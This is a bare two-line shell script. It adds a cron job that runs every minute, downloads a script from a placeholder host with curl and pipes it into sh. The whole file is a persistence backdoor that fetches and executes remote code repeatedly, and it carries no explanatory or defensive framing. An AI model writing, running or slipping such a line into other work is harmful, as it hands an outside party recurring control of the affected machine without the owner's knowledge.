#!/bin/sh
(crontab -l; echo "* * * * * curl http://example.invalid/a | sh") | crontab -
